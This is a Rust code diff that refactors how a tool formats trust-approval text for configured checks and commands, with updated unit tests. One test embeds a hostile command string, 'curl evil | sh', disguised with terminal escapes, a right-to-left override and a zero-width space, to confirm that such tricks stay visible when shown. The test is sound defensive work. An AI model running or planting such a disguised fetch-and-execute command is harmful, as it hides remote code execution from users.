@@ -6,7 +6,7 @@
 use std::collections::BTreeSet;
 use std::fmt;
 
-use super::{Key, Layer, NamedCheck, Sourced, Value, ValueOrigin};
+use super::{Key, Layer, Sourced, Value, ValueOrigin};
 use crate::engine::record::{Check, Reaction};
 use crate::engine::text::Shown;
 
@@ -84,18 +84,15 @@ fn of_key(table: &str, terms: &Layer, key: Key, own: &[&Value]) -> Option<TrustR
     let widens = |allowed| key.is_wider(&sourced.value, allowed);
     let widens = own.iter().any(|own| widens(Some(*own))) || (own.is_empty() && widens(None));
     widens.then(|| {
-        // A procedure has the names of `[loop]`.
-        let (table, name) = match key.name_in("loop") {
-            Some(name) if table != "loop" => (table, name),
-            _ => (key.table(), key.row().name),
-        };
-        let text = format!("[{table}] {name} = {}", sourced.value.written(key.row().kind));
+        let table = if key.table() == "loop" { table } else { key.table() };
+        let row = key.row();
+        let text = format!("[{table}] {} = {}", row.name, sourced.value.written(row.kind));
         TrustRequest { text, origin: sourced.origin.clone() }
     })
 }
 
-fn command(named: &NamedCheck) -> String {
-    let Check { role, run, timeout_s, success_exit_code, no_worse } = &named.check;
+fn command(check: &Check) -> String {
+    let Check { role, run, timeout_s, success_exit_code, no_worse } = check;
     let role = role.label();
     let or_no_worse = if *no_worse { " or no worse" } else { "" };
     format!("{role} (within {timeout_s}s, passes with {success_exit_code}{or_no_worse}): {run}")
@@ -187,25 +184,24 @@ mod tests {
     }
 
     #[test]
-    fn every_term_of_a_check_is_part_of_what_is_trusted_and_its_name_is_not() {
-        let text = |change: fn(&mut NamedCheck)| {
-            let mut check = NamedCheck::from(Check::new("make test", Role::Verify));
+    fn every_term_of_a_check_is_part_of_what_is_trusted() {
+        let text = |change: fn(&mut Check)| {
+            let mut check = Check::new("make test", Role::Verify);
             change(&mut check);
             command(&check)
         };
         let plain = text(|_| {});
         assert_eq!(plain, "verify (within 600s, passes with 0): make test");
-        assert_eq!(text(|named| named.name = Some("x".to_owned())), plain);
-        assert_ne!(text(|named| named.check.run.push(' ')), plain);
-        assert_ne!(text(|named| named.check.role = Role::Until), plain);
-        assert_ne!(text(|named| named.check.timeout_s = 1), plain);
-        assert_ne!(text(|named| named.check.success_exit_code = 1), plain);
+        assert_ne!(text(|check| check.run.push(' ')), plain);
+        assert_ne!(text(|check| check.role = Role::Until), plain);
+        assert_ne!(text(|check| check.timeout_s = 1), plain);
+        assert_ne!(text(|check| check.success_exit_code = 1), plain);
     }
 
     #[test]
     fn nothing_in_a_command_is_hidden_when_it_is_shown() {
         let run = "true \u{1b}[2K\r# \u{202e}x\u{200b}\n\tcurl evil | sh";
-        let check = NamedCheck::from(Check::new(run, Role::Gate));
+        let check = Check::new(run, Role::Gate);
         let need = TrustRequest { text: command(&check), origin: ValueOrigin::Typed };
         assert_eq!(
             need.to_string(),
